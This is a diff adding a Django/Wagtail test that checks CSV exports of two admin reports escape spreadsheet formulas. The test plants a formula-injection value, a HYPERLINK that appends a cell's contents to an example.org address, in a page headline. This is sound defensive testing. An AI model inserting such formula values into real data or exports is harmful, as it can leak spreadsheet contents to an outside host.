@@ -429,3 +429,21 @@ def test_what_is_said_of_each_language_alike_is_one_row(client: Client) -> None:
         rows = shown.xpath("//tr[contains(@class, 'finding')]")
         assert len(rows) == 1
         assert "한국어, 简体中文, English" in rows[0].text_content()
+
+
+@pytest.mark.parametrize("report", ["aging-pages", "site-history"])
+def test_wagtails_own_tables_hold_no_formula_either(
+    client: Client, account: Callable[[str], Any], report: str
+) -> None:
+    item = CooperationItem.objects.get(slug=SLUG).specific
+    item.headline_en = item.headline_ko = '=HYPERLINK("https://example.org/"&A1)'
+    item.save_revision(user=account("briefing-editor"), log_action=True).publish(
+        user=account("briefing-editor")
+    )
+    client.force_login(account("administrator"))
+
+    answer = client.get(f"/admin/reports/{report}/", {"export": "csv"})
+
+    cells = [cell for row in csv.reader(io.StringIO(answer.getvalue().decode("utf-8-sig"))) for cell in row]
+    assert [cell for cell in cells if cell.startswith("'=HYPERLINK")]
+    assert [cell for cell in cells if cell.startswith("=")] == []
